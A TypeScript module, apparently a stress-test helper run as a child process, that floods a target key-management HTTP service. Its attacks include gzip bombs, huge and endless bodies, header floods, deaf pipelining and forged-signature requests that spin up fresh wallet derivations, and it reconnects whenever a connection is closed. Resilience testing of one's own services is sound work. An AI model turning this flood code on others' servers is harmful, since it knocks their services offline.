/**
 * Strangers who send as fast as they can, in a process of their own. Started with a URL and an attack; sends until it is told to end or
 * is killed, coming again whenever it is closed out, and tells what it sent and what was answered.
 */
import { randomBytes } from 'node:crypto';
import { connect } from 'node:net';
import { gzipSync } from 'node:zlib';
import type { Socket } from 'node:net';

export type Attack = 'huge-frames' | 'huge-bodies' | 'gzip-bombs' | 'many-headers' | 'endless-headers' | 'pipelines' | 'fresh-wallets';

export interface Siege {
  readonly connections: number;
  /** Connections that were made, and closed by the node. */
  readonly opened: number;
  readonly sentBytes: number;
  readonly statuses: Readonly<Record<string, number>>;
}

interface Manner {
  readonly connections: number;
  /** What is sent again and again; a call for each. */
  readonly next: () => Buffer;
  /** What begins each connection. */
  readonly opening?: Buffer;
  /** Reads nothing of what is answered. */
  readonly isDeaf?: boolean;
  /** Waits for an answer before it sends on. */
  readonly isPatient?: boolean;
}

const MIB = 1_048_576;
/** What one connection sends before others have their turn. */
const TURN = 16;
const HUGE_BYTES = 100 * MIB;
const HELLO = `0x${'11'.repeat(65)}`;

const text = (lines: readonly string[], body = ''): Buffer => Buffer.from(`${lines.join('\r\n')}\r\n\r\n${body}`, 'latin1');
const post = (path: string, ...headers: readonly string[]) => [`POST ${path} HTTP/1.1`, 'Host: x', ...headers];
const filler = Buffer.alloc(65_536, 'a');
const chunk = Buffer.concat([Buffer.from('10000\r\n'), filler, Buffer.from('\r\n')]);
/** 16 MiB of nothing, packed to 16 KiB: a hello of a size that is read. */
const bomb = gzipSync(Buffer.alloc(16 * MIB));
const headers = Array.from({ length: 1_900 }, (_, index) => `x${index}: a`);

function proofOf(nonce: string): Buffer {
  // Nearly every other r is of a point: then somebody's wallet comes out, and never the same twice.
  const signature = `0x${randomBytes(32).toString('hex')}${'11'.repeat(32)}00`;
  const proof = [`X-App-Signature: ${signature}`, `X-App-Nonce: ${nonce}`, `X-App-Timestamp: ${Math.floor(Date.now() / 1_000)}`];
  return text(post('/kms/derive', 'Content-Type: application/json', 'Content-Length: 2', ...proof), '{}');
}

const manners: Readonly<Record<Attack, (nonce: string) => Manner>> = {
  'huge-frames': () => ({
    connections: 32,
    opening: text(
      post('/sync', 'Content-Type: application/octet-stream', `X-KMS-Session: ${'ab'.repeat(16)}`, `Content-Length: ${HUGE_BYTES}`),
    ),
    next: () => filler,
  }),
  'huge-bodies': () => ({
    connections: 32,
    opening: text(post('/sync', 'Content-Type: application/cbor', `X-KMS-Signature: ${HELLO}`, 'Transfer-Encoding: chunked')),
    next: () => chunk,
  }),
  'gzip-bombs': () => {
    const hello = [
      'Content-Type: application/cbor',
      'Content-Encoding: gzip',
      `X-KMS-Signature: ${HELLO}`,
      `Content-Length: ${bomb.length}`,
    ];
    return { connections: 32, isPatient: true, next: () => Buffer.concat([text(post('/sync', ...hello)), bomb]) };
  },
  'many-headers': () => ({
    connections: 32,
    isPatient: true,
    next: () => text(['GET /health HTTP/1.1', 'Host: x', ...headers.slice(0, 1_500)]),
  }),
  'endless-headers': () => ({
    connections: 32,
    opening: Buffer.from('GET /health HTTP/1.1\r\nHost: x\r\n'),
    next: () => Buffer.from(`${headers.join('\r\n')}\r\n`),
  }),
  pipelines: () => ({ connections: 200, isDeaf: true, next: () => text(['GET /status HTTP/1.1', 'Host: x']) }),
  'fresh-wallets': (nonce) => ({ connections: 32, isPatient: true, next: () => proofOf(nonce) }),
};

async function besiege(target: URL, attack: Attack): Promise<void> {
  let nonce = '';
  const ask = async () => {
    nonce = ((await (await fetch(new URL('/nonce', target))).json()) as { nonce: string }).nonce;
  };
  await ask();
  // A nonce is nobody's until it is used up, and nobody of these gets so far.
  if (attack === 'fresh-wallets') setInterval(() => void ask().catch(() => undefined), 30_000);
  const statuses: Record<string, number> = {};
  let [opened, sentBytes] = [0, 0];
  const { connections } = manners[attack](nonce);

  function begin(): void {
    const { next, opening, isDeaf, isPatient } = manners[attack](nonce);
    const socket: Socket = connect(Number(target.port), target.hostname);
    const say = (bytes: Buffer): boolean => {
      sentBytes += bytes.length;
      return socket.write(bytes);
    };
    const pour = (): void => {
      if (isPatient) return void say(manners[attack](nonce).next());
      // In turns: what the machine takes at once it would take for ever.
      for (let turn = 0; turn < TURN; turn += 1) if (!socket.writable || !say(next())) return;
      setImmediate(pour);
    };
    socket.once('connect', () => {
      opened += 1;
      if (opening) say(opening);
      if (isDeaf) socket.pause();
      pour();
    });
    socket.on('data', (bytes: Buffer) => {
      for (const [, status = ''] of bytes.toString('latin1').matchAll(/HTTP\/1\.1 (\d{3})/g)) {
        statuses[status] = (statuses[status] ?? 0) + 1;
        if (isPatient && socket.writable) pour();
      }
    });
    if (!isPatient) socket.on('drain', pour);
    socket.on('error', () => undefined);
    socket.once('close', () => setTimeout(begin, 5));
  }

  for (let index = 0; index < connections; index += 1) begin();
  setInterval(() => process.send?.({ connections, opened, sentBytes, statuses } satisfies Siege), 100);
}

if (process.send) await besiege(new URL(process.argv[2] ?? ''), process.argv[3] as Attack);
